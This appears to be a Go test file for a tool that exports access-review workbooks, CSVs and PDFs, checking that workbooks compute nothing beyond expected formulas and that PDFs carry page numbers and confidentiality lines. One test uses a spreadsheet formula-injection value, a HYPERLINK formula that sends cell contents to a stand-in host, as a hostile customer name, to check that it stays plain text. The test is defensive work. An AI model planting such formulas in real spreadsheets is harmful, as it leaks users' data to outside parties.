package main

import (
	"archive/zip"
	"html"
	"io"
	"path/filepath"
	"regexp"
	"slices"
	"strconv"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"

	"countersign/fixtures"
)

// ours are the only formulas a workbook of ours holds, its cells written $X: lists
// to choose from, and the colours of decisions.
var ours = []string{
	"DecisionList", "AllList", "StatementList", "0", "2000",
	`$X="Approve"`, `$X="Revoke"`, `$X="Change"`, `$X="Not sure"`,
	`AND($X="Change",LEN(TRIM($X))=0)`,
	`AND($X<>"",OR($X<>"Approve",ISNUMBER(SEARCH("reason needed",$X))),LEN(TRIM($X))=0)`,
}

var (
	cellFormula = regexp.MustCompile(`<f[ >/]`)
	ruleFormula = regexp.MustCompile(`<formula[12]?>(.*?)</formula[12]?>`)
	reference   = regexp.MustCompile(`\$[A-Z]+\d+`)
	outside     = regexp.MustCompile(`<hyperlink [^>]*r:id=|<(externalReference|ddeLink|oleObject)`)
)

// formulas lists what a workbook computes, beside what is ours, and what it fetches
// from elsewhere.
func formulas(t *testing.T, path string) []string {
	t.Helper()
	z, err := zip.OpenReader(path)
	if err != nil {
		t.Fatal(err)
	}
	defer z.Close()
	var out []string
	for _, part := range z.File {
		r, err := part.Open()
		if err != nil {
			t.Fatal(err)
		}
		text, err := io.ReadAll(r)
		if err != nil {
			t.Fatal(err)
		}
		r.Close()
		if strings.HasPrefix(part.Name, "xl/worksheets/sheet") && cellFormula.Match(text) {
			out = append(out, part.Name+": a cell")
		}
		for _, found := range ruleFormula.FindAllSubmatch(text, -1) {
			if formula := reference.ReplaceAllString(html.UnescapeString(string(found[1])), "$$X"); !slices.Contains(ours, formula) {
				out = append(out, part.Name+": "+formula)
			}
		}
		if found := outside.Find(text); found != nil {
			out = append(out, part.Name+": "+string(found))
		}
	}
	return out
}

// cells reads every cell of a workbook as another program shows it.
func cells(t *testing.T, path string) (texts []string) {
	t.Helper()
	f, err := excelize.OpenFile(path)
	if err != nil {
		t.Fatalf("%s: %v", path, err)
	}
	defer f.Close()
	for _, sheet := range f.GetSheetList() {
		rows, err := f.GetRows(sheet)
		if err != nil {
			t.Fatalf("%s, sheet %s: %v", path, sheet, err)
		}
		for _, row := range rows {
			texts = append(texts, row...)
		}
	}
	return texts
}

// Every workbook that went out and came back opens, sheet by sheet, and computes
// nothing; every page of every PDF is numbered and says whose it is.
func TestDocumentsOpen(t *testing.T) {
	run := demo(t)
	books, pages := 0, 0
	for name := range files(t, run.dir, "out", "returned") {
		path := filepath.Join(run.dir, filepath.FromSlash(name))
		switch filepath.Ext(name) {
		case ".xlsx":
			books++
			if found := formulas(t, path); len(found) > 0 {
				t.Errorf("%s computes %q", name, found)
			}
			f, err := excelize.OpenFile(path)
			if err != nil {
				t.Fatal(err)
			}
			for _, sheet := range []string{"Start", "Decide", "Re-affirm", "Chains", "Coverage", "Roles", "Sign-off"} {
				if i, err := f.GetSheetIndex(sheet); i < 0 || err != nil {
					t.Errorf("%s has no sheet %s", name, sheet)
				}
			}
			f.Close()
			if n := len(cells(t, path)); n < 100 {
				t.Errorf("%s has %d cells", name, n)
			}
		case ".pdf":
			all := strings.Split(strings.TrimSuffix(poppler(t, "pdftotext", path, "-"), "\f"), "\f")
			for i, page := range all {
				pages++
				if want := "Page " + strconv.Itoa(i+1) + " of " + strconv.Itoa(len(all)); !strings.Contains(page, want) || !strings.Contains(page, "Confidential: for ") {
					t.Errorf("%s, page %d does not say %q, or for whom it is", name, i+1, want)
				}
			}
		}
	}
	if books < 20 || pages < 20 {
		t.Errorf("%d workbooks, %d pages", books, pages)
	}
}

// A customer whose name is a formula stays a customer with a strange name, in
// workbooks that go out and come back, in the PDF and in every list.
func TestHostileNameStaysText(t *testing.T) {
	t.Parallel()
	w, err := newWorld(7)
	if err != nil {
		t.Fatal(err)
	}
	const name = `=HYPERLINK("http://collect.example/?q="&A1,"Invoice")`
	dir := t.TempDir()
	config := w.start(t, dir)
	for _, args := range [][]string{{"collect"}, {"review", "open"}} {
		if _, stderr, code := execute(storyNow, append([]string{"--config", config}, args...)...); code != exitDone {
			t.Fatalf("%v: exit code %d\n%s", args, code, stderr)
		}
	}
	books, _ := filepath.Glob(filepath.Join(dir, "out", "2026-Q3", "reviews", "*.xlsx"))
	named := 0
	for _, path := range books {
		if found := formulas(t, path); len(found) > 0 {
			t.Errorf("%s computes %q", filepath.Base(path), found)
		}
		for _, text := range cells(t, path) {
			if strings.Contains(text, name) {
				named++
			}
		}
		sent := files(t, filepath.Dir(path), filepath.Base(path))[filepath.Base(path)]
		filled, err := fixtures.FillIn(sent, fixtures.Answers{Reviewer: name, Date: storyNow})
		if err != nil {
			t.Fatal(err)
		}
		back := filepath.Join(dir, filepath.Base(path))
		write(t, back, filled)
		if stdout, stderr, code := execute(storyNow, "--config", config, "review", "import", back); code != exitDone {
			t.Errorf("import: exit code %d\n%s%s", code, stdout, stderr)
		}
	}
	if named == 0 {
		t.Error("no workbook names the customer")
	}
	stdout, stderr, code := execute(storyNow, "--config", config, "review", "close")
	if code != exitDone {
		t.Fatalf("close: exit code %d\n%s%s", code, stdout, stderr)
	}
	for path, text := range files(t, dir, "out") {
		if filepath.Ext(path) == ".csv" && regexp.MustCompile(`(^|[,\n])"?[=+@\t-]`).Match(text) {
			t.Errorf("%s holds a cell that a spreadsheet takes for a formula", path)
		}
	}
}
